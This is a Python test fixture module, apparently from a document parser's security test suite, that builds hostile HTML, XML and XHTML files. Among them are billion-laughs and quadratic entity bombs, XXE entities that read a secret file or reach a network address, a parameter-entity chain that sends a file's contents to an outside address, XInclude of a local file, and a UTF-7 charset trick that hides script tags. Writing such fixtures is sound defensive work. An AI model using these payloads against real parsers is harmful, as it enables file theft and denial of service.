"""Hostile HTML, and XML that is nothing else."""

from functools import partial

from tests.trust.hostile.sizes import ADDRESS, DEEP, LONG, MANY, SECRET, Files, Make, given

HEAD = '<!doctype html><html lang="da"><head><meta charset="utf-8"><title>Politik</title></head><body><h1>Politik</h1>'
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
BILLION = f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]>'
QUADRATIC = f'<!DOCTYPE x [<!ENTITY q "{"ha" * 50_000}">]>'
FROM_FILE = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{SECRET}">]>'
FROM_NETWORK = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{ADDRESS}">]>'
FROM_OUTSIDE = f'<!DOCTYPE x SYSTEM "{ADDRESS}x.dtd">'
PARAMETERS = (
    f'<!DOCTYPE x [<!ENTITY % f SYSTEM "file://{SECRET}"><!ENTITY % g SYSTEM "{ADDRESS}x.dtd"> %g; '
    f"<!ENTITY % all \"<!ENTITY &#37; send SYSTEM '{ADDRESS}?%f;'>\"> %all; %send;]>"
)
ITSELF = '<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>'
DEFAULTS = '<!DOCTYPE x [<!ATTLIST p a CDATA "' + "x" * 100_000 + '">]>'
# A trick with the head of an XML file, and the text that calls upon it.
TRICKS = {
    "a billion laughs": (BILLION, "&l9;"),
    "a long word many times": (QUADRATIC, "&q;" * (LONG // 100)),
    "a file's content": (FROM_FILE, "&e;"),
    "a network address": (FROM_NETWORK, "&e;"),
    "a definition from outside": (FROM_OUTSIDE, "x"),
    "definitions that send a file": (PARAMETERS, "&send;"),
    "a word that is itself": (ITSELF, "&a;"),
    "long attributes of every paragraph": (DEFAULTS, "<p/>" * 10_000),
    "an unknown word": ("", "&nosuch;"),
    "an inclusion": ("", f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="file://{SECRET}" parse="text"/>'),
    "a style sheet": (f'<?xml-stylesheet type="text/xsl" href="{ADDRESS}"?>', "x"),
    "NUL": ("", "Politik\0Vision"),
    "letters that are forbidden": ("", "Politik&#0;&#1;&#xFFFE;&#xD800;"),
    "an end that is missing": ("", "<p><p><p>"),
}


def page(body: str) -> bytes:
    return f"{HEAD}{body}".encode()


def within_itself(tag: str) -> Make:
    return lambda: page(tag * DEEP + "tekst")


NESTED: Files = {
    f"HTML: {name} in itself": within_itself(tag)
    for name, tag in {
        "div": "<div>", "list": "<ul><li>", "numbered list": "<ol><li>", "table": "<table><tr><td>", "bold": "<b>",
        "quote": "<blockquote>", "span": "<span>", "drawing": "<svg><g>", "template": "<template>",
        "form": "<select>", "section": "<section><h2>", "link": "<a href=x>", "definition": "<dl><dd>",
        "button": "<button>",
        "ruby": "<ruby><rt>",
        "formula": "<math><mrow>", "object": "<object>", "details": "<details>", "paragraph in bold": "<b><p>",
        "bold, italic, paragraph": "<b><i><p></b>", "frame": "<frameset>", "font": "<font size=7>",
    }.items()
}  # fmt: skip
PAGES: Files = {
    "HTML: lists in lists that end": lambda: page("<ul><li>" * DEEP + "x" + "</li></ul>" * DEEP),
    "HTML: ends without beginnings": lambda: page("</div></p></table>" * MANY),
    "HTML: one tag of many attributes": lambda: page("<p " + " ".join(f"a{n}=b" for n in range(MANY)) + ">"),
    "HTML: one attribute of many letters": lambda: page(f'<p class="{"x" * LONG}">'),
    "HTML: one tag without end": lambda: page("<" + "a" * LONG),
    "HTML: a comment without end": lambda: page("<!--" + "-" * LONG),
    "HTML: comments": lambda: page("<!-- -->" * MANY),
    "HTML: a script without end": lambda: page("<script>" + "x" * LONG),
    "HTML: text without end": lambda: page("<plaintext>" + "<b>" * MANY),
    "HTML: one endless paragraph": lambda: page("<p>" + "ord " * (LONG // 4)),
    "HTML: breaks": lambda: page("<br>" * MANY),
    "HTML: empty paragraphs": lambda: page("<p>" * MANY),
    "HTML: headings": lambda: page("<h2>a</h2>" * (MANY // 4)),
    "HTML: list items": lambda: page("<ul>" + "<li>a" * (MANY // 4)),
    "HTML: words in angles": lambda: page("&lt;" * MANY),
    "HTML: letters by number": lambda: page("&#0;&#55296;&#1114112;&#x1b;&#99999999999999999999;" * 1000),
    "HTML: a table that is wide": given(page("<table><tr>" + "<td colspan=1000000000 rowspan=1000000000>a" * 100)),
    "HTML: a list that begins high": given(page(f"<ol start={'9' * 5000}><li value=-{'9' * 5000}>a<li>b</ol>")),
    "HTML: a list of numbers that are none": given(page("<ol start=1e400><li value=NaN>a<li value='²'>b</ol>")),
    "HTML: things to fetch": given(
        page(
            f"<base href={ADDRESS}><link rel=stylesheet href=x><script src=x></script><img src=x>"
            "<iframe src=x></iframe>"
            f"<object data=x></object><meta http-equiv=refresh content='0;url={ADDRESS}'><p>tekst"
        )
    ),
    "HTML: files to fetch": given(page(f"<iframe src=file://{SECRET}></iframe><object data=file://{SECRET}></object>")),
    "HTML: a character set that is none": given(b"<html><meta charset='" + b"x" * 10_000 + b"'><p>tekst"),
    "HTML: another character set than it says": given(b"<html><meta charset=utf-16><p>tekst \xe6\xf8\xe5"),
    "HTML: a character set that hides tags": given(b"<html><meta charset=utf-7><p>+ADw-script+AD4-"),
    "HTML: NUL in tags": given(page("<p\0><\0b>te\0kst</p\0>")),
    "HTML: in UTF-16": given(page("<p>tekst").decode().encode("utf-16")),
    "HTML: conditional comments": given(page("<!--[if gte mso 9]><xml>" * 1000)),
    "HTML: frames within frames": lambda: page("<iframe srcdoc='" * 1000),
}


def xml(head: str, body: str) -> bytes:
    return f'<?xml version="1.0" encoding="UTF-8"?>{head}<x>{body}</x>'.encode()


def page_of(head: str, body: str) -> bytes:
    head = head.replace("DOCTYPE x", "DOCTYPE html")
    return f'{head}<html xmlns="http://www.w3.org/1999/xhtml"><body><h1>Politik</h1>{body}</body></html>'.encode()


XML: Files = {
    **{f"XML: {name}": partial(xml, *trick) for name, trick in TRICKS.items()},
    **{f"XHTML: {name}": partial(page_of, *trick) for name, trick in TRICKS.items()},
    "XML: depth": lambda: xml("", "<a>" * DEEP + "</a>" * DEEP),
    "XML: in UTF-16": given(xml(FROM_FILE, "&e;").decode().replace("UTF-8", "UTF-16").encode("utf-16")),
    "flat ODT": lambda: (
        b'<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0">'
        + b"<a>" * DEEP
    ),
    "a drawing with a script": given(f'<svg xmlns="http://www.w3.org/2000/svg"><script href="{ADDRESS}"/></svg>'),
}


FILES = NESTED | PAGES | XML
